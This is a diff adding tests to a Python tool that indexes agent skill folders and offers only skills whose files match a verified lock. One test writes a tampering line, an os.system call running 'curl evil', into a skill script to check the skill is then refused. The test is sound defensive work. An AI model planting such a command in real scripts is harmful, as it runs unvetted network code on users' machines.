@@ -16,7 +16,9 @@ from hypothesis import strategies as st
 from test_loader import NOW, build, skill_state
 
 import skillctl
+from skillctl.deliver import ranking
 from skillctl.deliver.index import Index
+from skillctl.deliver.ranking import phrase
 from skillctl.loader import explain_load
 from skillctl.lock import read_lock, skill_digest, write_lock
 from skillctl.lockmodel import Lock, LockEntry
@@ -45,6 +47,23 @@ def bump(path: Path, text: str) -> None:
 
 def names(hits) -> list[str]:  # type: ignore[no-untyped-def]
     return [h.name for h in hits]
+
+
+def assert_offered_is_loadable(root: Path) -> None:
+    """The default search ranks ``search_ok``: it must hold exactly the rows stored as loadable,
+    with their current text (a contentless row removed with the wrong text corrupts the index)."""
+    db = open_state(root)
+    try:
+        conn = db.conn
+        offered = {r[0] for r in conn.execute("SELECT rowid FROM search_ok")}
+        assert offered == {r[0] for r in conn.execute("SELECT id FROM search_docs WHERE loadable = 1")}
+        for table in ("search_ok", "search_fts"):
+            conn.execute(f"INSERT INTO {table} ({table}) VALUES ('integrity-check')")
+        for row_id, name in conn.execute("SELECT id, name FROM search_docs WHERE loadable = 1").fetchall():
+            found = conn.execute("SELECT rowid FROM search_ok WHERE search_ok MATCH ?", [phrase(name)]).fetchall()
+            assert (row_id,) in found
+    finally:
+        db.conn.close()
 
 
 @pytest.fixture
@@ -94,6 +113,7 @@ def test_index_verdicts_equal_the_loader_before_and_after_a_change(states, touch
             assert all((h.name, h.reason) in verdicts for h in every)
             assert {h.name for h in every if h.loadable} == {s.name for s in report.loaded}
             assert sorted(names(skillctl.search(root, "skill", 100, now=NOW))) == [s.name for s in report.loaded]
+            assert_offered_is_loadable(root)
 
         agree()
         folders = discover_skills(root)
@@ -120,6 +140,21 @@ def test_a_script_edited_behind_skill_md_is_no_longer_offered(repo: Path) -> Non
     assert names(skillctl.search(repo, "csv", now=NOW)) == ["pdf-table-extract"]
     hit = skillctl.search(repo, "csv", include_all=True, now=NOW)[0]
     assert hit.name == "csv-clean" and not hit.loadable and "digest mismatch" in hit.reason
+
+
+def test_a_skill_whose_edited_script_is_put_back_is_offered_again(repo: Path) -> None:
+    script = repo / "skills" / "csv-clean" / "clean.py"
+    script.write_text("print('clean')\n")
+    lock = read_lock(repo)
+    lock.skills["csv-clean"] = lock.skills["csv-clean"].model_copy(
+        update={"digest": skill_digest(repo / "skills" / "csv-clean")})
+    write_lock(repo, lock)
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["csv-clean", "pdf-table-extract"]
+    bump(script, "import os; os.system('curl evil')\n")
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["pdf-table-extract"]
+    bump(script, "print('clean')\n")  # git checkout: the verified bytes again, SKILL.md untouched
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["csv-clean", "pdf-table-extract"]
+    assert_offered_is_loadable(repo)
 
 
 def test_expiry_is_judged_at_query_time(repo: Path) -> None:
@@ -211,6 +246,9 @@ def test_the_cached_walk_finds_what_discover_skills_finds(tmp_path: Path) -> Non
     (tmp_path / "skills" / "via-link").symlink_to(outside / "skills" / "linked")
     (tmp_path / "deep" / "a" / "b").mkdir(parents=True)
     (tmp_path / "deep" / "a" / "b" / "SKILL.md").write_text(skill_text("b"))
+    synced = tmp_path / ".claude" / "skills"  # copies sync wrote into the repo: not skills of their own
+    make_skill(synced.parent, "plain")
+    (synced / ".skillctl-manifest.json").write_text("{}")
 
     def walked() -> list[str]:
         refresh(tmp_path)
@@ -224,6 +262,7 @@ def test_the_cached_walk_finds_what_discover_skills_finds(tmp_path: Path) -> Non
         return sorted(p.relative_to(tmp_path).as_posix() for p in discover_skills(tmp_path))
 
     assert walked() == expected() and "skills/outer" in expected() and ".curated/skills/dotted" in expected()
+    assert ".claude/skills/plain" not in expected()
     (nested / "SKILL.md").unlink()  # outer stops being a skill: its nested one appears
     assert walked() == expected() and "skills/outer/references/inner" in expected()
     (tmp_path / "deep" / "a" / "b" / "SKILL.md").unlink()
@@ -325,3 +364,94 @@ def test_a_loadable_skill_ranked_below_many_refused_ones_is_still_found(tmp_path
     verified(tmp_path, "plain-skill", description="Mentions a zebra once. Use when testing.")
     assert names(skillctl.search(tmp_path, "zebra", 1, now=NOW)) == ["plain-skill"]
     assert len(skillctl.search(tmp_path, "zebra", 100, include_all=True, now=NOW)) == 31
+
+
+def test_a_skill_changed_after_indexing_is_refused_by_a_query_without_refresh(repo: Path) -> None:
+    db = open_state(repo)
+    try:
+        index = Index(repo, db)
+        index.refresh(NOW)
+        assert names(index.query("csv", now=NOW)) == ["csv-clean", "pdf-table-extract"]
+        bump(repo / "skills" / "csv-clean" / "SKILL.md", skill_text("csv-clean", description="Now says otherwise."))
+        # no refresh: the stored verdict (and search_ok) still offer it; the re-check at query time must not
+        assert names(index.query("csv", now=NOW)) == ["pdf-table-extract"]
+        assert names(index.query("csv", now=NOW)) == ["pdf-table-extract"]  # and the refusal was stored
+    finally:
+        db.conn.close()
+    assert_offered_is_loadable(repo)
+
+
+def test_a_demoted_skill_leaves_the_default_search_and_comes_back_when_reverified(repo: Path) -> None:
+    lock = read_lock(repo)
+    active = lock.skills["csv-clean"]
+    lock.skills["csv-clean"] = active.model_copy(update={"status": "quarantined", "reason": "RCE-001"})
+    write_lock(repo, lock)
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["pdf-table-extract"]
+    assert_offered_is_loadable(repo)
+    lock.skills["csv-clean"] = active
+    write_lock(repo, lock)
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["csv-clean", "pdf-table-extract"]
+    assert_offered_is_loadable(repo)
+    shutil.rmtree(repo / "skills" / "csv-clean")
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["pdf-table-extract"]
+    assert_offered_is_loadable(repo)
+
+
+@pytest.fixture
+def broad(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A repo where "zebra" matches far more skills than are ranked in full (MAX_RANKED lowered)."""
+    monkeypatch.setattr(ranking, "MAX_RANKED", 4)
+    write_lock(tmp_path, Lock())
+    for i in range(12):  # in the body only, each many times
+        verified(tmp_path, f"filler-{i:02d}", description="Use when testing.", body="zebra " * 20 + "\n")
+    verified(tmp_path, "plain-words", description="Mentions a zebra. Use when testing.")
+    verified(tmp_path, "zebra-named", description="Use when testing.")
+    make_skill(tmp_path, "zebra-unverified", description="Zebra zebra. Use for zebras.")
+    return tmp_path
+
+
+def test_a_broad_query_ranks_names_then_descriptions_then_the_rest(broad: Path) -> None:
+    hits = names(skillctl.search(broad, "zebra", 20, now=NOW))
+    assert hits[:2] == ["zebra-named", "plain-words"]
+    assert sorted(hits[2:]) == [f"filler-{i:02d}" for i in range(12)]  # every match, each once
+    assert names(skillctl.search(broad, "zebra", 1, now=NOW)) == ["zebra-named"]
+    every = skillctl.search(broad, "zebra", 50, include_all=True, now=NOW)
+    assert len(every) == len(set(names(every))) == 15
+    assert {h.name for h in every if not h.loadable} == {"zebra-unverified"}
+
+
+def test_a_broad_query_keeps_not_and_column_filters(broad: Path) -> None:
+    assert "zebra-named" not in names(skillctl.search(broad, "zebra NOT named", 20, now=NOW))
+    assert set(names(skillctl.search(broad, "zebra NOT named", 20, now=NOW))) >= {"plain-words", "filler-00"}
+    assert names(skillctl.search(broad, "description : zebra", 20, now=NOW)) == ["plain-words"]
+    assert sorted(names(skillctl.search(broad, "body : zebra", 20, now=NOW))) == [f"filler-{i:02d}" for i in range(12)]
+
+
+def test_many_folders_are_read_in_workers_with_the_same_result(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from skillctl.deliver import folders
+
+    write_lock(tmp_path, Lock())
+    for i in range(6):
+        verified(tmp_path, f"skill-{i}", description=f"Skill {i}. Use when testing.")
+    make_skill(tmp_path, "never-verified")
+    (tmp_path / "skills" / "broken").mkdir()
+    (tmp_path / "skills" / "broken" / "SKILL.md").write_bytes(b"---\nname: [unclosed\n---\n")
+
+    def table() -> list[tuple]:  # type: ignore[type-arg]
+        refresh(tmp_path)
+        db = open_state(tmp_path)
+        try:
+            return db.conn.execute("SELECT path, name, description, deep, observed, entry, loadable, status, reason "
+                                   "FROM search_docs ORDER BY path").fetchall()
+        finally:
+            db.conn.close()
+
+    serial = table()
+    state_path(tmp_path).unlink()
+    monkeypatch.setattr(folders, "PARALLEL_FROM", 2)
+    monkeypatch.setattr(folders, "CHUNK", 2)
+    if folders.cores() < 2:
+        monkeypatch.setattr(folders, "cores", lambda: 2)
+    assert table() == serial
+    assert [r[0] for r in serial if r[6]] == [f"skills/skill-{i}" for i in range(6)]
+    assert_offered_is_loadable(tmp_path)
